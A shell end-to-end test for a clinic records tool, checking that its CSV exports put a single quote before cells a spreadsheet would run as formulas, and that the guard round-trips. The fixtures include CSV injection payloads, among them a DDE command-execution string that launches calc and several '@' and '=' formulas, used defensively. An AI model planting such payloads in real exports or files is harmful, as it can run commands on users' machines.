# End-to-end: a text cell of the records' CSV (export --csv, recall --csv) that a spreadsheet
# would run as a formula (it begins with '=', '+', '-', '@', a tab or a carriage return) is
# guarded as OWASP's "CSV Injection" page recommends: a single quote before it, inside the
# quotes. Numbers are never guarded (a negative score stays a number), nor is the header. The
# guard is reversible (docs/records.md, "Export"): a reader removes one leading quote from a
# cell that begins with quotes and then a formula character, and from no other, and gets back
# exactly the stored text, a text that itself began with a quote included.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib_records.sh"
export SOURCE_DATE_EPOCH=1806624000 # 2027-04-02 (UTC)

# The awkward texts: each formula character first, quotes before one, a quote before text that
# is no formula, a formula character later in the text, a lone minus.
$PY - "$MN_SOURCE_DIR" "$TMP" <<'PYEOF' || exit 1
import json, os, sys
src, tmp = sys.argv[1], sys.argv[2]
texts = ['=HYPERLINK("http://example.org/?x="&A1,"Dr A")', "+1 555 0100", "-2+3",
         "@SUM(A1:A9)", "\tcmd", "\r=cmd", "'=quoted", "''+two quotes", "'plain quote",
         "plain, with a comma", "a=b", "-", "'"]
json.dump(texts, open(tmp + "/texts.json", "w"))
# A clinic's own scale that runs below zero (a change scale, -3 to 3): a negative score.
os.mkdir(tmp + "/data")
sc = json.load(open(src + "/data/scales.json"))
base = next(s for s in sc["scales"] if s["kind"] == "change")
neg = dict(base, id="change-negative", min=-3, max=3, step=1)
sc["scales"].append(neg)
json.dump(sc, open(tmp + "/data/scales.json", "w"))
PYEOF
DATA="$TMP/data"

amelia_planned 0
session 1 c-amelia "$TMP/s1.json"
$PY - "$TMP" <<'PYEOF' || exit 1
import json, sys
tmp = sys.argv[1]
texts = json.load(open(tmp + "/texts.json"))
s = json.load(open(tmp + "/s1.json"))
s["adverse_events"] = [{"event": "=cmd|' /C calc'!A0", "severity": "mild"}]
json.dump(s, open(tmp + "/s1.json", "w"))
a = [{"client": "c-amelia", "date": s["date"], "scale": "fitzpatrick-wrinkle", "score": 5,
      "rater": t, "session": 1} for t in texts]
a.append({"client": "c-amelia", "date": s["date"], "scale": "change-negative", "score": -2,
          "rater": "-nurse"})
json.dump(a, open(tmp + "/a1.json", "w"))
PYEOF
expect 0 "stdout:recorded 1 session" -- "$MNEEDLE" record session --db "$DB" "$TMP/s1.json"
expect 0 "stdout:recorded 14 assessments" -- "$MNEEDLE" record assessment --db "$DB" \
    --data "$DATA" "$TMP/a1.json"
expect 0 "" -- "$MNEEDLE" history --db "$DB" --data "$DATA" --json c-amelia --output "$TMP/h.json"
expect 0 "" -- "$MNEEDLE" export --db "$DB" c-amelia --csv "$TMP/c.csv"

# The reader's rule, as docs/records.md gives it.
cat >"$TMP/unguard.py" <<'PYEOF'
import re
FORMULA = "=+-@\t\r"
def unguard(cell):
    """One leading quote off a cell that begins with quotes and then a formula character."""
    rest = cell.lstrip("'")
    if cell.startswith("'") and rest[:1] and rest[0] in FORMULA:
        return cell[1:]
    return cell
PYEOF
ok '$PY - "$TMP" <<PYEOF
import csv, json, sys
sys.path.insert(0, sys.argv[1])
from unguard import unguard, FORMULA
tmp = sys.argv[1]
raw = open(tmp + "/c.csv", newline="", encoding="utf-8").read()
header = "client,type,date,number,zone,depth_mm,passes,planned_depth_mm,scale,score,rater,event,severity,device,resolved,rescreen"
assert raw.split("\n", 1)[0] == header, raw.split("\n", 1)[0]
rows = list(csv.DictReader(open(tmp + "/c.csv", newline="", encoding="utf-8")))
# No cell a spreadsheet would run: every cell that begins with a formula character is a number.
for r in rows:
    for k, v in r.items():
        if v[:1] and v[0] in FORMULA:
            float(v)  # raises on text
# Guarded in the file itself: the quote inside the quotes.
assert "\"\x27=HYPERLINK(" in raw and "\"\x27\x27=quoted\"" in raw, raw
assert ",\x27plain quote," in raw and ",a=b," in raw, raw
# The negative score is a number, unquoted and unguarded.
neg = [r for r in rows if r["scale"] == "change-negative"]
assert [r["score"] for r in neg] == ["-2"] and ",change-negative,-2," in raw, neg
assert [r["rater"] for r in neg] == ["\x27-nurse"], neg
# Round trip: the reader rule gives back exactly what history --json holds.
h = json.load(open(tmp + "/h.json"))
stored = [a["rater"] for a in h["assessments"]]
got = [unguard(r["rater"]) for r in rows if r["type"] == "assessment"]
assert got == stored, (got, stored)
assert stored[:13] == json.load(open(tmp + "/texts.json")), stored
ev = [unguard(r["event"]) for r in rows if r["type"] == "adverse_event"]
assert ev == [e["event"] for e in h["adverse_events"]] == ["=cmd|\x27 /C calc\x27!A0"], ev
# Empty cells stay empty: an assessment has no number, depth or resolved date.
a = [r for r in rows if r["type"] == "assessment"][0]
assert a["number"] == a["depth_mm"] == a["resolved"] == a["event"] == "", a
# Every other text cell reads back unchanged by the rule (ids, zones, devices, types).
for r in rows:
    for k in ("client", "type", "zone", "device", "scale", "severity"):
        assert unguard(r[k]) == r[k], (k, r[k])
PYEOF' "the CSV export does not guard formula cells, or the guard does not round-trip"

# recall --csv: the reason is the record's text (here edited in the database as another tool
# could write it), guarded the same way. A second client, due for maintenance.
expect 0 "stdout:^c-amy$" -- "$MNEEDLE" client add --db "$DB" --id c-amy \
    "$MN_SOURCE_DIR/examples/clients/amelia-wrinkles.json"
expect 0 "" -- "$MNEEDLE" plan c-amy --save --db "$DB"
$PY - "$DB" <<'PYEOF' || exit 1
import sqlite3, sys
c = sqlite3.connect(sys.argv[1])
c.execute("UPDATE clients SET maintenance_reason = '@cmd' WHERE id = 'c-amy'")
c.commit()
PYEOF
expect 0 "" -- "$MNEEDLE" recall --db "$DB" --due-before 2030-01-01 --csv --output "$TMP/r.csv"
ok '$PY - "$TMP" <<PYEOF
import csv, sys
sys.path.insert(0, sys.argv[1])
from unguard import unguard
tmp = sys.argv[1]
raw = open(tmp + "/r.csv", newline="", encoding="utf-8").read()
assert raw.startswith("client,due,last_session,reason,type\n"), raw
rows = list(csv.DictReader(open(tmp + "/r.csv", newline="", encoding="utf-8")))
assert [(r["client"], r["reason"]) for r in rows if r["client"] == "c-amy"] == [("c-amy", "\x27@cmd")], rows
assert [unguard(r["reason"]) for r in rows if r["client"] == "c-amy"] == ["@cmd"]
PYEOF' "recall --csv does not guard a reason a spreadsheet would run"
finish
